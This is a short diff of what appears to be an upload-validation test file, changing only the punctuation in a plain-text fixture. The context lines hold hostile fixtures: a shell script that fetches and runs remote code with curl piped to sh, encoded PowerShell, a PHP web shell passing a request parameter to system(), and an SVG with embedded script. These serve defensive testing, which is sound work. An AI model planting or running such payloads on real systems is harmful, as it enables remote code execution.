@@ -119,7 +119,7 @@ SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
 BATCH_SCRIPT = b"@echo off\r\npowershell -enc AAAA\r\n"
 PHP = b"<?php system($_GET['c']); ?>"
 SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
-PLAIN_TEXT = "营业执照号码:91140500BJ1XG6128F\n".encode()
+PLAIN_TEXT = "营业执照号码：91140500BJ1XG6128F\n".encode()
 
 
 def upload(name, content, content_type="application/pdf"):
